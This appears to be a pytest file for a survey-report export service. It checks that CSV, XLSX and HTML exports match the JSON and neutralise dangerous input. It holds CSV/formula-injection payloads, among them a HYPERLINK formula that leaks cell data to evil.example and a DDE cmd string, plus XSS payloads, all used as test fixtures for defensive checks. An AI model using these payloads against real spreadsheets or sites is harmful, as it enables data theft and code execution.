"""evalsvc.exports: every format parsed back and compared with the JSON of the same report.

The report is computed from the bundled course with synthetic participants scored by
`evalsvc.domain.scoring`, so every table has realistic rows, withheld cells included.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import subprocess
import sys
import zipfile
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import msgspec
import openpyxl
import pytest

from evalsvc.catalog import load_paths
from evalsvc.domain.cohort import ParticipantScores, PhaseScores
from evalsvc.domain.questionnaire import Course
from evalsvc.domain.scoring import score_submission
from evalsvc.exports import csv_export, html_report, methods, tables, xlsx_export
from evalsvc.exports.safe import is_dangerous, neutralize
from evalsvc.reports import CourseReport, report_from
from evalsvc.storage.records import ResponseRow

REPO = Path(__file__).resolve().parents[1]
COURSE: Course = load_paths([REPO / "surveys"]).courses["salw-nexus-kz-2024"]

INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\u22121",  # −1 with MINUS SIGN
    "\uff1d1+1",  # ＝1+1 full width
    "  =cmd|' /C calc'!A0",
)
XSS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
ALL_TABLES = ("summary", "agency_comparison", "items", "reliability", "feedback", "feedback_texts")

# -- building reports ---------------------------------------------------------------------


def _answers(course: Course, ability: float, phase: str, rng: random.Random) -> dict:
    out: dict[str, object] = {}
    for item in course.items:
        if item.role == "knowledge":
            if rng.random() < ability:
                key = list(item.correct)
                out[item.id] = key if item.kind == "multiple_choice" else key[0]
            else:
                wrong = [o for o in item.option_ids if o not in item.correct]
                out[item.id] = [wrong[0]] if item.kind == "multiple_choice" else rng.choice(wrong)
        elif item.role == "self_assessment":
            out[item.id] = min(5, max(1, round(1 + 4 * ability + rng.gauss(0, 0.7))))
        elif item.role == "feedback" and item.kind == "likert" and phase == "post":
            out[item.id] = rng.choice([2, 3, 4, 4, 5, 5])
    return out


def _phase(course: Course, answers: dict) -> PhaseScores:
    return PhaseScores(*score_submission(course, answers))


def build(
    course: Course,
    sizes: dict[str, int],
    *,
    seed: int = 7,
    texts: tuple[str, ...] = (),
    decline: str | None = None,
) -> CourseReport:
    """A report with sizes[agency] participants each; `decline` scores lower after."""
    rng = random.Random(seed)
    participants, feedback = [], []
    number = 0
    for agency, size in sizes.items():
        for _ in range(size):
            number += 1
            base = rng.uniform(0.2, 0.6)
            after = base - 0.15 if agency == decline else min(0.95, base + rng.uniform(0.05, 0.4))
            pre = _answers(course, base, "pre", rng)
            post = _answers(course, after, "post", rng)
            participants.append(
                ParticipantScores(number, agency, _phase(course, pre), _phase(course, post))
            )
            answers = {k: v for k, v in post.items() if k.startswith("fb_")}
            if texts:
                answers["fb_most_useful"] = texts[number % len(texts)]
                answers["fb_improve"] = texts[(number + 1) % len(texts)]
            feedback.append((agency, answers))
    return report_from(course, participants, feedback, "en")


def with_item_text(course: Course, item_id: str, text: str) -> Course:
    items = tuple(
        msgspec.structs.replace(item, text={"en": text, "ru": text}) if item.id == item_id else item
        for item in course.items
    )
    return msgspec.structs.replace(course, items=items)


SIZES = {"mfa": 8, "mia": 6, "prosecutor": 5, "courts": 4, "border": 7, "customs": 2}


@pytest.fixture(scope="module")
def course() -> Course:
    return with_item_text(COURSE, "k01", INJECTIONS[0])


@pytest.fixture(scope="module")
def report(course: Course) -> CourseReport:
    return build(course, SIZES, texts=(*INJECTIONS, *XSS, "Useful exercises"), decline="border")


@pytest.fixture(scope="module")
def as_json(report: CourseReport) -> dict:
    return json.loads(msgspec.json.encode(report))


@pytest.fixture(scope="module")
def few(course: Course) -> CourseReport:
    """Two participants: every figure is withheld."""
    return build(course, {"mfa": 1, "courts": 1}, texts=XSS)


@pytest.fixture(scope="module")
def empty(course: Course) -> CourseReport:
    return report_from(course, [], [], "ru")


# -- what each table should hold, from the JSON ------------------------------------------------


def json_rows(as_json: dict, table: str, points: list[int]) -> list[dict]:
    """The JSON of `table` flattened the way `tables` documents it."""
    if table == "summary":
        return as_json["summary"]["rows"]
    if table == "agency_comparison":
        return as_json["summary"]["agency_comparison"]
    if table == "items":
        return as_json["items"]
    if table == "reliability":
        return as_json["reliability"]
    if table == "feedback":
        out = []
        for row in as_json["feedback"]["likert"]:
            flat = {k: v for k, v in row.items() if k != "distribution"}
            distribution = {int(p): n for p, n in (row["distribution"] or {}).items()}
            flat.update({f"n_{p}": distribution.get(p) for p in points})
            out.append(flat)
        return out
    assert table == "feedback_texts"
    return [
        {"item": t["item"], "answer": a} for t in as_json["feedback"]["texts"] for a in t["answers"]
    ]


def expected_csv(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return neutralize("; ".join(value))
    if isinstance(value, str):
        return neutralize(value)
    return str(value)


def assert_same_csv(cell: str, value: object) -> None:
    if isinstance(value, float):
        assert float(cell) == pytest.approx(value, abs=1e-12, rel=0)
    else:
        assert cell == expected_csv(value)


def parse_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


# -- safe ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", INJECTIONS, ids=repr)
def test_formula_starts_get_an_apostrophe(text: str) -> None:
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["", "plain", "a=1", "1-2", "Хорошо", "e-mail", "'quoted", "100%"],
    ids=repr,
)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert neutralize(text) == text


@pytest.mark.parametrize("text", ["＋1", "－1", "＠SUM(A1)", " \u00a0-1", "\n=1"], ids=repr)
def test_lookalikes_and_leading_whitespace_are_caught(text: str) -> None:
    assert is_dangerous(text)


def test_numbers_are_not_neutralized() -> None:
    with pytest.raises(TypeError):
        neutralize(-1.5)  # type: ignore[arg-type]


# -- tables ----------------------------------------------------------------------------------


def test_report_tables_use_the_struct_field_names(report: CourseReport, course: Course) -> None:
    named = tables.report_tables(report, course)
    assert tuple(named) == tables.TABLE_NAMES
    from evalsvc.domain.items import ItemRow
    from evalsvc.domain.summary import SummaryRow

    assert named["summary"].columns == tuple(SummaryRow.__struct_fields__)
    assert named["items"].columns == tuple(ItemRow.__struct_fields__)
    assert named["feedback"].columns == (
        "item", "agency", "n", "suppressed", "suppressed_reason",
        "n_1", "n_2", "n_3", "n_4", "n_5", "mean", "top_two_box",
    )  # fmt: skip
    columns, rows = named["summary"]  # a Table unpacks like (columns, rows)
    assert len(rows) == len(report.summary.rows)


def test_without_the_course_feedback_points_come_from_the_report(report: CourseReport) -> None:
    assert tables.report_tables(report)["feedback"].columns[5:10] == tuple(
        f"n_{p}" for p in range(1, 6)
    )


def test_codebook_describes_every_column(report: CourseReport, course: Course) -> None:
    named = tables.report_tables(report, course)
    described: dict[str, set[str]] = {}
    for name, table, meaning, unit in named["codebook"].rows:
        assert meaning and unit, name
        described.setdefault(str(table), set()).add(str(name))
    for table_name, table in named.items():
        assert set(table.columns) == described[table_name], table_name
    assert set(tables.scores_columns()) == described["scores"]
    assert set(tables.RESPONSES_FIXED_COLUMNS) | {tables.ITEM_COLUMN} == described["responses"]
    assert set(tables.item_codebook(course, "en").columns) == described["items_codebook"]


def test_score_rows_cover_every_phase_measure_and_skill(course: Course) -> None:
    scores = _phase(course, _answers(course, 0.5, "pre", random.Random(1)))
    people = [
        ParticipantScores(1, "mfa", scores, scores),
        ParticipantScores(2, "mia", scores, None),
    ]
    rows = list(tables.score_rows(people))
    per_phase = len(scores.knowledge) + len(scores.confidence)
    assert len(rows) == 3 * per_phase
    assert rows[0] == (1, "mfa", "pre", "knowledge", "awareness", scores.knowledge["awareness"])
    assert {r[4] for r in rows} == {*COURSE.skill_ids(), "total"}
    assert {r[2] for r in rows if r[0] == 2} == {"pre"}


def _response(course: Course, answers: dict, mismatch: int = 0) -> ResponseRow:
    return ResponseRow(
        participant=12,
        agency="mfa",
        submitted_agency="mia" if mismatch else "mfa",
        agency_mismatch=mismatch,
        phase="post",
        lang="ru",
        received_at="2024-03-15T10:00:00Z",
        answers_json=json.dumps(answers),
    )


def test_response_row_follows_the_columns(course: Course) -> None:
    columns = tables.responses_columns(course)
    assert columns[:7] == tables.RESPONSES_FIXED_COLUMNS
    assert columns[7:] == tuple(item.id for item in course.items)
    answers = {"k01": "b", "k03": ["a", "c"], "sa_awareness_1": 4, "fb_improve": "=1+1"}
    answers = {k: v for k, v in answers.items() if k in columns}
    row = dict(
        zip(columns, tables.response_row(course, _response(course, answers, 1)), strict=True)
    )
    assert row["agency_mismatch"] is True and row["submitted_agency"] == "mia"
    assert row["k01"] == "b"
    assert row["k03"] == "a|c"
    assert row["fb_improve"] == "=1+1"
    assert row["k02"] is None
    for key, value in answers.items():
        if isinstance(value, int):
            assert row[key] == value


def test_item_codebook_lists_options_scales_and_keys(course: Course) -> None:
    table = tables.item_codebook(course, "en")
    rows = {row[0]: dict(zip(table.columns, row, strict=True)) for row in table.rows}
    assert len(rows) == len(course.items)
    k02 = rows["k02"]
    assert k02["options"].startswith("a=Prohibiting all civilian ownership of firearms; b=")
    assert k02["options"].endswith("; dont_know")
    assert k02["correct"] == "c" and k02["points"] == 1.0
    likert = rows["fb_relevance"]
    assert likert["scale"] == "agreement (1..5)"
    assert likert["options"].startswith("1=Strongly disagree; 2=Disagree")
    assert likert["correct"] is None and likert["points"] is None
    multiple = next(
        i for i in course.items if i.kind == "multiple_choice" and i.role == "knowledge"
    )
    assert rows[multiple.id]["correct"] == "|".join(multiple.correct)
    without = tables.item_codebook(course, "en", answer_keys=False)
    assert "correct" not in without.columns and "source" not in without.columns


# -- CSV ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ALL_TABLES)
def test_csv_matches_the_json(name: str, report: CourseReport, course: Course, as_json) -> None:
    table = tables.report_tables(report, course)[name]
    text = csv_export.table_csv(*table)
    assert text.startswith("\ufeff")
    parsed = parse_csv(text)
    assert list(parsed[0]) == list(table.columns) if parsed else True
    assert text.removeprefix("\ufeff").split("\r\n", 1)[0] == ",".join(table.columns)
    expected = json_rows(as_json, name, tables.feedback_points(report, course))
    assert len(parsed) == len(expected) > 0
    for from_csv, from_json in zip(parsed, expected, strict=True):
        assert set(from_csv) == set(from_json)
        for column, value in from_json.items():
            assert_same_csv(from_csv[column], value)


def test_csv_cells_keep_numbers_and_defuse_text() -> None:
    columns = ("text", "number", "integer", "missing", "flag")
    rows = [(text, -1.5, -3, None, True) for text in INJECTIONS]
    rows.append(("Астана, Қазақстан", 0.1 + 0.2, 0, None, False))
    text = csv_export.table_csv(columns, rows)
    raw = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1:]
    for cells, injection in zip(raw, INJECTIONS, strict=False):
        assert cells == ["'" + injection, "-1.5", "-3", "", "true"]
    assert raw[-1] == ["Астана, Қазақстан", "0.30000000000000004", "0", "", "false"]
    assert csv_export.table_csv(columns, rows, bom=False).startswith("text,")
    as_mappings = [dict(zip(columns, row, strict=True)) for row in rows]
    assert csv_export.table_csv(columns, as_mappings) == text


def test_feedback_csv_defuses_every_injection(report: CourseReport, course: Course) -> None:
    table = tables.report_tables(report, course)["feedback_texts"]
    answers = [row["answer"] for row in parse_csv(csv_export.table_csv(*table))]
    for injection in INJECTIONS:
        assert "'" + injection.strip() in answers  # answers arrive stripped
    assert "Useful exercises" in answers
    assert not [a for a in answers if is_dangerous(a)]


def test_item_texts_are_defused_in_the_codebook_csv(course: Course) -> None:
    parsed = parse_csv(csv_export.table_csv(*tables.item_codebook(course, "en")))
    k01 = next(row for row in parsed if row["item"] == "k01")
    assert k01["text"] == "'" + INJECTIONS[0]


async def _aiter(rows: list) -> AsyncIterator:
    for row in rows:
        yield row


@pytest.mark.anyio
async def test_stream_csv_equals_table_csv_in_bounded_chunks(course: Course) -> None:
    columns = tables.responses_columns(course)
    answers = {"k01": "b", "fb_improve": "=HYPERLINK(1)", "fb_most_useful": "Практика\nи теория"}
    rows = [tables.response_row(course, _response(course, answers, n % 2)) for n in range(2000)]
    chunks = [c async for c in csv_export.stream_csv(columns, _aiter(rows), chunk_size=4096)]
    assert len(chunks) > 10
    assert max(len(c) for c in chunks) < 2 * 4096 * 4  # a chunk holds about chunk_size chars
    streamed = b"".join(chunks)
    assert streamed == csv_export.table_csv(columns, rows).encode("utf-8")
    assert streamed.startswith(b"\xef\xbb\xbf")
    parsed = parse_csv(streamed.decode("utf-8"))
    assert len(parsed) == 2000
    assert parsed[0]["fb_improve"] == "'=HYPERLINK(1)"
    assert parsed[0]["fb_most_useful"] == "Практика\nи теория"


@pytest.mark.anyio
async def test_stream_csv_of_no_rows_is_the_header() -> None:
    chunks = [c async for c in csv_export.stream_csv(("a", "b"), _aiter([]))]
    assert b"".join(chunks) == "\ufeffa,b\r\n".encode()


# -- XLSX ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def xlsx_bytes(report: CourseReport, course: Course) -> bytes:
    return xlsx_export.workbook(report, course)


@pytest.fixture(scope="module")
def book(xlsx_bytes: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(xlsx_bytes))


def test_xlsx_has_the_sheets_and_native_charts(book, xlsx_bytes: bytes) -> None:
    assert book.sheetnames == list(xlsx_export.SHEET_NAMES)
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes)) as archive:
        charts = [n for n in archive.namelist() if re.fullmatch(r"xl/charts/chart\d+\.xml", n)]
        assert len(charts) == 4
        chart = archive.read(charts[0]).decode()
    assert "<c:barChart>" in chart and "<c:errBars>" in chart
    assert "Charts!$B$2:$B$7" in chart  # categories: the five skills and the total


@pytest.mark.parametrize(
    ("sheet", "name"),
    [(s, t) for s, t in xlsx_export.DATA_SHEETS],
    ids=[s for s, _ in xlsx_export.DATA_SHEETS],
)
def test_xlsx_sheet_matches_the_json(
    sheet: str, name: str, book, report: CourseReport, course: Course, as_json
) -> None:
    table = tables.report_tables(report, course)[name]
    worksheet = book[sheet]
    values = list(worksheet.iter_rows(values_only=True))
    assert values[0] == table.columns
    assert worksheet.freeze_panes is not None and worksheet.freeze_panes.endswith("2")
    expected = json_rows(as_json, name, tables.feedback_points(report, course))
    assert len(values) - 1 == len(expected)
    for cells, from_json in zip(values[1:], expected, strict=True):
        row = dict(zip(table.columns, cells, strict=True))
        for column, value in from_json.items():
            got = row[column]
            if isinstance(value, float):
                assert got == pytest.approx(value, abs=1e-12, rel=1e-14), column
            elif isinstance(value, list):
                assert got == ("; ".join(value) or None), column
            elif value == "":
                assert got is None, column
            else:
                assert got == value, column
                assert type(got) is type(value), column


def test_xlsx_withheld_cells_are_blank_in_suppressed_rows(book, report: CourseReport) -> None:
    worksheet = book["Summary"]
    header = [c.value for c in worksheet[1]]
    index = {name: i for i, name in enumerate(header)}
    suppressed = [r for r in worksheet.iter_rows(min_row=2) if r[index["suppressed"]].value is True]
    assert len(suppressed) == sum(r.suppressed for r in report.summary.rows) > 0
    for cells in suppressed:
        assert cells[index["mean_gain"]].value is None
        assert cells[index["t_pvalue"]].value is None
        assert cells[index["n_paired"]].value is not None  # counts are always shown
        assert cells[index["mean_gain"]].fill.fgColor.rgb.endswith("E5E7EB")


def test_xlsx_number_formats(book) -> None:
    worksheet = book["Summary"]
    header = [c.value for c in worksheet[1]]
    row = [c for c in worksheet[2]]  # knowledge, first agency, first skill
    formats = {name: row[i].number_format for i, name in enumerate(header)}
    assert formats["t_pvalue"] == "0.000"
    assert formats["pre_mean"] == "0.0"
    assert formats["cohens_dz"] == "0.00"
    items = book["Items"]
    header = [c.value for c in items[1]]
    assert items.cell(2, header.index("p_pre") + 1).number_format == "0.0%"


def test_xlsx_text_is_never_a_formula_and_numbers_stay_numbers(book, report) -> None:
    answers = [c for c in book["Feedback texts"]["B"][1:]]
    by_value = {c.value: c for c in answers}
    for injection in INJECTIONS:
        cell_ = by_value[injection.strip()]
        assert cell_.data_type == "s"
        assert cell_.quotePrefix, injection  # Excel shows it as text and keeps it text
    questions = book["Questions"]
    row = next(r for r in questions.iter_rows(min_row=2) if r[0].value == "k01")
    question = row[5]
    assert question.value == INJECTIONS[0] and question.data_type == "s" and question.quotePrefix
    plain = by_value["Useful exercises"]
    assert not plain.quotePrefix
    worksheet = book["Summary"]
    header = [c.value for c in worksheet[1]]
    gains = [r[header.index("mean_gain")] for r in worksheet.iter_rows(min_row=2)]
    negative = [c for c in gains if isinstance(c.value, float) and c.value < 0]
    assert negative and all(c.data_type == "n" for c in negative)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate)


def test_xlsx_methods_and_codebook(book, report: CourseReport) -> None:
    texts = [c.value for c in book["Methods"]["B"] if c.value]
    for section in methods.methods_sections(report.min_cell_size):
        assert section.title in texts
        assert all(p in texts for p in section.paragraphs)
    assert [c.value for c in book["Codebook"][1]] == list(tables.CODEBOOK_COLUMNS)


# -- HTML ------------------------------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags


LINKS = [("Summary (CSV)", "/api/v1/courses/salw-nexus-kz-2024/summary.csv")]


@pytest.fixture(scope="module")
def served(report: CourseReport, course: Course) -> str:
    return html_report.render_report(report, course, inline_css=False, links=LINKS)


@pytest.fixture(scope="module")
def offline(report: CourseReport, course: Course) -> str:
    return html_report.render_report(report, course, inline_css=True, links=[])


def test_participant_text_is_escaped(served: str) -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in served
    assert "&lt;img src=x onerror=alert(1)&gt;" in served
    assert "<script" not in served.lower()
    assert not [tag for tag, _ in tags_of(served) if tag in ("script", "img", "iframe", "object")]
    assert not [attrs for _, attrs in tags_of(served) if any(a.startswith("on") for a in attrs)]


@pytest.mark.parametrize("which", ["served", "offline"])
def test_html_loads_nothing_from_elsewhere_and_has_no_inline_style(which: str, request) -> None:
    html = request.getfixturevalue(which)
    # the only web addresses are in participants' text (the injection cases), escaped
    assert set(re.findall(r"https?://[\w.-]+", html)) == {"http://evil.example"}
    for tag, attrs in tags_of(html):
        assert "style" not in attrs, tag
        for name in ("src", "href", "action", "srcset", "xlink:href"):
            value = (attrs.get(name) or "").strip().lower()
            assert not re.match(r"^(https?:)?//", value), (tag, name, value)
    assert not re.search(r"url\(\s*['\"]?(https?:)?//", html)
    assert not re.search(r"@import", html)


def test_served_page_links_the_stylesheet_and_the_downloads(served: str) -> None:
    links = [attrs for tag, attrs in tags_of(served) if tag == "link"]
    assert {"rel": "stylesheet", "href": "/static/report.css"} in links
    assert "<style" not in served
    assert 'href="/api/v1/courses/salw-nexus-kz-2024/summary.csv"' in served


def test_offline_file_inlines_the_stylesheet(offline: str) -> None:
    assert "<style>" in offline and "@page" in offline
    assert 'href="/static/report.css"' not in offline
    assert 'aria-label="Downloads"' not in offline
    assert offline.startswith("<!doctype html>")


def test_report_css_is_the_served_file() -> None:
    path = REPO / "src" / "evalsvc" / "web" / "static" / "report.css"
    assert html_report.stylesheet() == path.read_text(encoding="utf-8")


def test_html_has_the_headlines_charts_tables_and_methods(served: str, report) -> None:
    everyone = next(
        r
        for r in report.summary.rows
        if (r.measure, r.agency, r.skill) == ("knowledge", "all", "total")
    )
    assert f"+{everyone.mean_gain:.1f}" in served
    assert f"{everyone.cohens_dz:.2f}" in served
    assert served.count("<svg") == 4
    sections = ("headline", "charts", "summary", "agency-comparison", "items")
    for section_id in (*sections, "reliability", "feedback", "methods"):
        assert f'id="{section_id}"' in served
    for section in methods.methods_sections(report.min_cell_size):
        assert section.title in served
    assert "suppressed (n &lt; 3)" in served  # customs has 2 people
    assert "suppressed (complementary)" in served
    assert "Generated" in served and str(report.n_participants) in served


def test_svg_charts_are_well_formed_xml(served: str) -> None:
    for svg in re.findall(r"<svg.*?</svg>", served, flags=re.S):
        root = ElementTree.fromstring(svg)  # noqa: S314 - our own output
        assert root.tag == "svg" and root.find("title") is not None


def test_names_with_markup_are_escaped_in_charts(course: Course) -> None:
    agencies = list(course.agencies)
    agencies[0] = msgspec.structs.replace(agencies[0], name={"en": 'R&D <b>"Unit"</b>'})
    odd = msgspec.structs.replace(course, agencies=tuple(agencies))
    html = html_report.render_report(build(odd, SIZES), odd, inline_css=True)
    assert "<b>" not in html
    for svg in re.findall(r"<svg.*?</svg>", html, flags=re.S):
        ElementTree.fromstring(svg)  # noqa: S314 - our own output
    assert "R&amp;D &lt;b&gt;" in html


def test_a_report_with_every_figure_withheld_renders(few: CourseReport, course: Course) -> None:
    assert all(r.suppressed for r in few.summary.rows)
    html = html_report.render_report(few, course, inline_css=True)
    assert "suppressed (n &lt; 3)" in html
    assert "answers withheld" in html
    assert "&lt;script" not in html  # free text withheld below min_cell_size
    book = openpyxl.load_workbook(io.BytesIO(xlsx_export.workbook(few, course)))
    assert book["Summary"].max_row == len(few.summary.rows) + 1
    for name, table in tables.report_tables(few, course).items():
        assert len(parse_csv(csv_export.table_csv(*table))) == len(table.rows), name


def test_an_empty_report_renders(empty: CourseReport, course: Course) -> None:
    assert empty.n_participants == 0
    html = html_report.render_report(empty, course, inline_css=False, links=LINKS)
    assert "No participant has both questionnaires yet." in html
    assert "no paired participants" in html
    book = openpyxl.load_workbook(io.BytesIO(xlsx_export.workbook(empty, course)))
    assert book.sheetnames == list(xlsx_export.SHEET_NAMES)
    for name, table in tables.report_tables(empty, course).items():
        csv_export.table_csv(*table)
        assert name != "feedback_texts" or table.rows == []


def test_methods_text_defines_every_statistic() -> None:
    text = methods.methods_text(3)
    for term in (
        "n_paired", "ddof=1", "paired t test", "95% confidence interval", "Wilcoxon",
        "scipy.stats.wilcoxon", "rank-biserial", "d_z", "noncentral t", "Hedges' g_z",
        "Γ(df/2)", "Hake", "n_improved", "Holm", "Welch's t test", "Kruskal–Wallis",
        "Welch's one-way ANOVA", "difficulty", "item–rest point-biserial", "exact McNemar",
        "Kuder–Richardson 20", "top-two-box", "min_cell_size = 3", "Complementary", "null",
    ):  # fmt: skip
        assert term in text, term


def test_exports_import_no_web_or_database_code() -> None:
    code = (
        "import sys; import evalsvc.exports.html_report, evalsvc.exports.xlsx_export, "
        "evalsvc.exports.csv_export, evalsvc.exports.tables, evalsvc.exports.methods; "
        "bad = [m for m in ('litestar', 'aiosqlite', 'sqlite3', 'evalsvc.storage', "
        "'evalsvc.web', 'evalsvc.reports') if m in sys.modules]; print(bad)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert result.stdout.strip() == "[]"
